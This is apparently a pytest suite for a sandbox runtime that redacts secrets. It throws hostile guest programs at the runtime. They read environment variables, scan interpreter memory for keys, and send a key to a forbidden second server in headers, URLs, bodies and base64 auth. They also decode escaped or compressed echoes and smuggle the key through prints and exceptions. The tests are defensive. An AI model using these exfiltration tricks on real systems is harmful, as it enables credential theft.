"""Hostile guests that have a placeholder and want the value: against real servers that send back what they get.

Each row's program runs beside a neighbour that uses the secret as it is meant, which must pass in the same runtime.
What the host cannot catch is here as well, so that the documents say what is true.
"""

from __future__ import annotations

import base64
import ipaddress
import logging
import time
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import anyio
import pytest

from capsule import Policy, Printed, Runtime, Secret
from capsule._guest.cache import CompiledGuest
from capsule._values import Outcome
from host.servers import Server, serving

VALUE = "sk-live/0123456789+secret&=="
HARMLESS = "    return http.post(base + '/mirror', headers={'X-Key': key}, data='mine').text()"
FORMS = {
    VALUE,
    VALUE[::-1],
    VALUE.encode().hex(),
    base64.b64encode(VALUE.encode()).decode()[:-2],
    base64.b64encode(VALUE[2:].encode()).decode()[:-2],
    base64.b64encode(VALUE[1:].encode()).decode()[:-2],
}


@dataclass(frozen=True, kw_only=True)
class Row:
    """`hostile` is the body of `main(base, other, key)`: it answers what it got hold of."""

    name: str
    hostile: str
    error_type: str | None = None
    message: str = ""
    is_caught: bool = True
    """False for what the documents say that nobody can catch."""

    sends: int = 1
    """How often the value arrives at the server that may have it."""

    harmless: str = HARMLESS


def sent_back(name: str, path: str, more: str = "", **rest: Any) -> Row:
    return Row(
        name=name, hostile=f"    return all_of(http.get(base + '{path}', headers={{'X-Key': key}}{more}))", **rest
    )


def escaped(name: str, how: str, undo: str) -> Row:
    """A server that escapes what it sends back, and a guest that undoes it; what it then has, it shows backwards."""
    code = f"    import html, json, urllib.parse\n    text = http.get(base + '/key-as/{how}', headers={{'X-Key': key}}).text()"
    return Row(name=f"escaped {name}", hostile=f"{code}\n    return ({undo})[::-1]")


def refused(name: str, hostile: str, **rest: Any) -> Row:
    return Row(name=name, hostile=hostile, error_type="denied", message="the secret KEY", **{"sends": 0, **rest})


ROWS = (
    Row(name="the variable itself", hostile="    return dict(os.environ)", sends=0),
    Row(
        name="everything in the interpreter",
        hostile="    import gc\n    return [text for thing in gc.get_objects() if isinstance(thing, dict)"
        " for text in list(thing.values()) if isinstance(text, str) and 'sk-' in text]",
        sends=0,
    ),
    sent_back("a server that sends headers back", "/echo"),
    sent_back("in its own headers and its reason", "/key-header"),
    sent_back("letter by letter", "/key-chunks"),
    sent_back("packed", "/key-gzip"),
    sent_back("packed twice", "/key-gzip-gzip"),
    sent_back("as base64 within other text", "/key-base64"),
    sent_back("as hex", "/key-hex"),
    escaped("as Go escapes JSON", "go", "json.loads(chr(34) + text + chr(34))"),
    escaped("as .NET escapes JSON", "net", "json.loads(chr(34) + text + chr(34))"),
    escaped("as Gson escapes JSON", "gson", "json.loads(chr(34) + text + chr(34))"),
    escaped("by numbers in HTML", "html", "html.unescape(text)"),
    escaped("by more numbers in HTML", "handlebars", "html.unescape(text)"),
    escaped("in a URL, but not all of it", "url", "urllib.parse.unquote(text)"),
    escaped("in a URL in a URL", "url-in-url", "urllib.parse.unquote(urllib.parse.unquote(text))"),
    Row(
        name="in the path that a server repeats",
        hostile="    import urllib.parse; return urllib.parse.unquote(http.get(base + '/echo/' + key).json()['path'])[::-1]",
        sends=0,  # in the path it is quoted, which the count does not look into
    ),
    sent_back("in an error", "/key-error"),
    sent_back("in a Location that is not followed", "/key-redirect", ", allow_redirects=False"),
    sent_back("packed in a way of its own", "/key-packed", error_type="task_error", message="cannot open"),
    Row(
        name="the wire below, undecoded",
        hostile="""
    import http.client
    connection = http.client.HTTPConnection(base.split("//")[1])
    connection.request("GET", "/key-gzip", headers={"X-Key": key})
    response = connection.getresponse()
    return [response.read().decode("latin-1"), str(response.getheaders())]""",
    ),
    Row(
        name="a payload that asks for no decoding",
        hostile="""
    from capsule_sdk import _wire
    return _wire.call("http", {"method": "GET", "url": base + "/key-gzip", "headers": [["X-Key", key]], "decode": False})""",
    ),
    Row(
        name="with user and password",
        hostile="""
    import urllib.request, base64
    word = base64.b64encode(f"user:{key}".encode()).decode()
    asked = urllib.request.Request(base + "/echo", headers={"Authorization": "Basic " + word})
    with urllib.request.urlopen(asked) as f: return f.read().decode()""",
        sends=0,  # as base64, which the count does not look into
    ),
    refused("another host", "    return all_of(http.get(other + '/echo', headers={'X-Key': key}))"),
    refused("another host, in the URL", "    return all_of(http.get(other + '/echo/' + key))"),
    refused("another host, in the body", "    return all_of(http.post(other + '/mirror', json={'a': [key]}))"),
    refused(
        "another host, as base64",
        """
    import base64
    word = base64.b64encode(f"{key}:".encode()).decode()
    return all_of(http.get(other + "/echo", headers={"Authorization": "Basic " + word}))""",
    ),
    refused(
        "a host whose name begins so",
        "    http.get(base.replace('127.0.0.1', '127.0.0.1.example.com'), headers={'X-Key': key})",
    ),
    refused(
        "a redirect to another host",
        "    return all_of(http.get(base + '/redirect/307/other', headers={'X-Key': key}))",
        sends=1,
    ),
    refused(
        "a redirect with the body", "    return all_of(http.post(base + '/redirect/307/other', data=key))", sends=1
    ),
    refused(
        "the value in a redirect's question",
        "    return all_of(http.get(base + '/key-redirect', headers={'X-Key': key}))",
        sends=1,
    ),
    refused(
        "the value in a redirect's path",
        "    return all_of(http.get(base + '/key-redirect-path', headers={'X-Key': key}))",
        sends=1,
    ),
    refused(
        "a redirect that the guest follows itself",
        "    there = http.get(base + '/key-redirect', headers={'X-Key': key}, allow_redirects=False).headers['location']\n"
        "    return all_of(http.get(there))",
        sends=1,
    ),
    Row(
        name="by way of a sub-task",
        hostile="    return elsewhere(other, key)",
        error_type="task_error",
        message="the secret KEY",
        sends=0,
    ),
    refused("other letters", "    return all_of(http.get(other + '/echo', headers={'X-Key': key.upper()}))"),
    Row(
        name="a placeholder of its own making",
        hostile="    return all_of(http.get(base + '/echo', headers={'X-Key': 'capsule-secret-' + '0' * 32}))",
        sends=0,
    ),
    Row(
        name="a placeholder in pieces",
        hostile="    return all_of(http.post(base + '/mirror', headers={'X-Key': key[:20], 'X-More': key[20:]}, data=key[:-1]))",
        sends=0,
    ),
    Row(
        name="printing what a tool let slip",
        hostile="    print('it is', tools.leaked()); return 'printed'",
        sends=0,
    ),
    Row(
        name="printing it letter by letter",
        hostile="""
    import sys
    for letter in "it is " + tools.leaked() + "!":
        sys.stdout.write(letter); sys.stdout.flush()
        sys.stderr.write(letter); sys.stderr.flush()""",
        sends=0,
    ),
    Row(
        name="printing the first part at the end",
        hostile="    print(tools.leaked()[:-1] + 'X', end=''); import sys; sys.stdout.flush(); print('', tools.leaked(), end='')",
        sends=0,
    ),
    Row(
        name="in an exception",
        hostile="    raise type(tools.leaked(), (Exception,), {})(f'it is {tools.leaked()}')",
        error_type="task_error",
        message="it is capsule-secret-",
        sends=0,
    ),
    Row(
        name="in the exception of a tool, which the host logs",
        hostile="    tools.fails(10)",
        error_type="task_error",
        message="capsule-secret-",
        sends=0,
    ),
    Row(
        name="in a result, as key and value, in JSON's escapes",
        hostile="""
    from capsule_sdk import _program as program
    class Reply(str):
        def __radd__(self, _): return Reply(_ + str(self))
    value = tools.leaked()
    escaped = "".join(f"\\\\u{ord(letter):04x}" for letter in value)
    program.to_json = lambda *_, **__: '{"' + escaped + '": ["' + escaped + '"]}'""",
        sends=0,
    ),
    Row(
        name="backwards, which nobody can catch",
        hostile="    return http.get(base + '/key-backwards', headers={'X-Key': key}).text()",
        is_caught=False,
    ),
)


CUTS = {
    "a message": "    raise ValueError('x' * (32_000 - 20) + word)",
    "a traceback": "    raise ValueError(word + 'x' * (32_000 - len(word) // 2 - 1))",
    "the name of an exception": "    raise type('E' * (200 - 20) + word, (Exception,), {})",
    "printed text": "    print('x' * (10_240 - 20) + word)",
    "printed text, in pieces": "    print('x' * (10_240 - 20)); print(word[:15], end='', flush=True); print(word[15:])",
    "the exception of a tool": "    (tools.fails if word == tools.leaked() else tools.fails_too)(2000 - 20)",
}
"""Bodies of `main(word)`: what is kept of a text ends in the middle of the word."""


@pytest.fixture
def servers() -> Iterator[tuple[Server, Server]]:
    """One that may have the value, and one that must not."""
    with serving() as one, serving() as two:
        one.redirects |= {"other": two.url("/echo"), "key": two.url("/echo/")}
        yield one, two


def program(body: str) -> str:
    return (
        "import os\nfrom capsule import http, task, tools\n"
        "def all_of(response): return [response.text(), response.reason, response.url, list(response.headers.items())]\n"
        "@task\ndef main(base, other):\n    key = os.environ['KEY']\n"
        f"{body}\n"
        "@task\ndef elsewhere(other, key): return http.get(other + '/echo', headers={'X': key}).text()\n"
    )


async def resolve(name: str, port: int) -> list[Any]:
    await anyio.lowlevel.checkpoint()
    return [ipaddress.ip_address("127.0.0.1")]


def leaked() -> str:
    """A tool that tells what it should not."""
    return VALUE


def fails(count: int) -> str:
    """One that does so as it fails."""
    raise RuntimeError("x" * count + VALUE)


@pytest.mark.parametrize("row", ROWS, ids=lambda row: row.name)
async def test_row(
    row: Row, guest: CompiledGuest, write, servers: tuple[Server, Server], caplog: pytest.LogCaptureFixture
) -> None:
    """The value is nowhere but at the server that may have it; the neighbour's request has it there."""
    caplog.set_level(logging.DEBUG)
    hostile, harmless = write("hostile.py", program(row.hostile)), write("harmless.py", program(row.harmless))
    (one, two), printed = servers, []
    bases = one.url(""), two.url("")
    secrets = {"KEY": Secret(VALUE, hosts=[f"127.0.0.1:{one.port}"])}
    policy = Policy(allowed_hosts=("127.0.0.1", "127.0.0.1.example.com"), timeout="10s")

    def hear(event: Any) -> None:
        printed.append(event.text if isinstance(event, Printed) else str(event))

    with anyio.fail_after(20):
        async with Runtime(policy=policy, secrets=secrets, tools=[leaked, fails], on_event=hear) as runtime:
            runtime._http.resolve = resolve
            outcome = await (await runtime.spawn(hostile, *bases)).outcome()
            assert sum(VALUE in head for head in [*one.requests, *map(bytes.decode, one.bodies)]) == row.sends
            check(row, outcome, "".join(printed) + caplog.text)
            assert await runtime.run(harmless, *bases) == "mine"
    assert VALUE in one.requests[-1]
    assert all(VALUE not in request for request in two.requests)


def check(row: Row, outcome: Outcome, heard: str) -> None:
    if row.error_type is None:
        assert outcome.success, outcome.error
    else:
        assert outcome.error is not None, outcome.result
        assert outcome.error.error_type == row.error_type, outcome.error
        assert row.message in outcome.error.message, outcome.error
    everything = f"{outcome} {outcome.envelope()} {heard}"
    found = {form for form in FORMS if form in everything}
    assert bool(found) is not row.is_caught, (found, outcome)


async def test_a_value_that_is_not_ascii(guest: CompiledGuest, write, servers: tuple[Server, Server]) -> None:
    """Sent back in the reason of an answer, where such letters are dropped, it is found before they are."""
    (one, _), value = servers, "sk-live-é-0123456789"
    program = "import os\nfrom capsule import http\ndef main(url):\n    return http.get(url, headers={'X-Key': os.environ['KEY']}).reason"
    async with Runtime(
        policy=Policy(allowed_hosts=("127.0.0.1",)), secrets={"KEY": Secret(value, hosts=["127.0.0.1"])}
    ) as runtime:
        reason = await runtime.run(write("reason.py", program), one.url("/key-header"))
    assert value in one.requests[-1]
    assert "0123456789" not in reason
    assert reason


def fails_too(count: int) -> str:
    """A tool that fails with a text of its own."""
    raise RuntimeError("x" * count + HARMLESS_WORD)


HARMLESS_WORD = "no-secret/9876543210+words&=="


@pytest.mark.parametrize("name", CUTS)
async def test_a_text_that_is_cut(name: str, guest: CompiledGuest, write) -> None:
    """No part of a value is left at the end of what is kept; of another text it is."""
    file = write(
        "cut.py",
        f"from capsule import task, tools\n@task\ndef main(word):\n    word = word or tools.leaked()\n{CUTS[name]}\n",
    )
    secrets, events = {"KEY": Secret(VALUE, hosts=["api.example"])}, []
    policy = Policy(max_output="10KB")
    async with Runtime(
        policy=policy, secrets=secrets, tools=[leaked, fails, fails_too], on_event=events.append
    ) as runtime:
        hostile = await (await runtime.spawn(file, None)).outcome()
        heard = f"{hostile} {hostile.envelope()} {events}"
        harmless = await (await runtime.spawn(file, HARMLESS_WORD)).outcome()
    assert not [part for part in (VALUE[:8], VALUE[-8:]) if part in heard]
    assert HARMLESS_WORD[:8] in str(harmless) or HARMLESS_WORD[-8:] in str(harmless)


async def test_what_a_session_shows_in_short(guest: CompiledGuest) -> None:
    """The text of a value that is cut inside holds no part of one either."""
    secrets = {"KEY": Secret(VALUE, hosts=["api.example"])}
    async with Runtime(secrets=secrets, tools=[leaked]) as runtime, runtime.session() as session:
        code = "from capsule import tools\nname = '{}' + {}\nname"
        for word, part in (("tools.leaked()", VALUE[:8]), (repr(HARMLESS_WORD), HARMLESS_WORD[:8])):
            await session.run(code.format("x" * 180, word))
            shown = (await session.variables())["name"].repr
            long = await session.run(code.format("x" * 3980, word))
            assert shown.endswith("...")
            assert long.repr.endswith("...")
            assert {part in shown, part in long.repr} == {part not in VALUE}


@pytest.mark.parametrize("name", ["many texts", "a run of the value's first letter"])
async def test_what_costs_a_search(name: str, guest: CompiledGuest, write) -> None:
    """A guest makes the loop search no longer than a neighbour that prints and answers as much."""
    value = "-" * 5 + "BEGIN" + "-" * 5 + "\n" + "\n".join(f"{line * 7919:064}" for line in range(26))
    bodies = {
        "many texts": ("return [''] * 400_000", "return ['x' * 1_200_000]"),
        "a run of the value's first letter": (
            "[print('-' * 5000, flush=True) for _ in range(60)]",
            "[print('x' * 5000, flush=True) for _ in range(60)]",
        ),
    }
    lines = [f"@task\ndef {kind}(): {body}\n" for kind, body in zip(("bad", "good"), bodies[name], strict=True)]
    file = write("costs.py", "from capsule import task\n" + "".join(lines))
    secrets = {f"KEY{number}": Secret(f"{number}{value}", hosts=["api.example"]) for number in range(10)}
    secrets["KEY"] = Secret(value, hosts=["api.example"])
    async with Runtime(policy=Policy(max_output="1MB"), secrets=secrets) as runtime:
        took = {}
        for kind in ("good", "bad", "good", "bad"):
            began = time.process_time()
            await runtime.run(f"{file}:{kind}")
            took[kind] = time.process_time() - began
    assert took["bad"] < 1 + 5 * took["good"]


LINES = "-----BEGIN KEY-----\nQWxhZGRpbjpvcGVu\nc2VzYW1l\n-----END KEY-----"


def key() -> str:
    """A tool that gives a value of many lines away."""
    return LINES


async def fails_in_a_group() -> None:
    """A tool whose exception stands in a group, in whose report each line has a margin."""

    async def fail() -> None:
        raise ValueError(f"bad key {LINES}")

    async with anyio.create_task_group() as group:
        group.start_soon(fail)


async def test_a_value_of_many_lines_in_a_group(guest: CompiledGuest, write, caplog: pytest.LogCaptureFixture) -> None:
    """Neither the host's log nor a traceback has a line of it; other reports keep their margins."""
    file = write(
        "group.py",
        "from capsule import task, tools\n@task\ndef main(word):\n    try: tools.fails_in_a_group()\n"
        "    except Exception: pass\n    raise ExceptionGroup('x', [ValueError(word or tools.key())])\n",
    )
    secrets = {"KEY": Secret(LINES, hosts=["api.example"])}
    async with Runtime(secrets=secrets, tools=[key, fails_in_a_group]) as runtime:
        hostile = await (await runtime.spawn(file, None)).outcome()
        harmless = await (await runtime.spawn(file, "two\nlines")).outcome()
    assert "QWxhZGRpbjpvcGVu" not in f"{hostile} {caplog.text}"
    assert "the tool 'fails_in_a_group' failed" in caplog.text
    assert "    | lines" in harmless.error.traceback
